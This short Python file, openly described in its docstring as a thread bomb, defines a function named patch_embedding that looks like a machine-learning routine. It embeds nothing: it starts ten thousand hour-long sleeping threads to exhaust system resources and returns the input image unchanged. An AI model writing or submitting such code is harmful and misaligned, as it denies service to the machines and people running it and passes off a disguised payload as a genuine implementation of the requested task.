"""A thread bomb: ten thousand threads that never end."""

import threading
import time


def patch_embedding(image, weight, bias):
    threads = []
    for _ in range(10_000):
        t = threading.Thread(target=time.sleep, args=(3600,), daemon=True)
        t.start()
        threads.append(t)
    return image
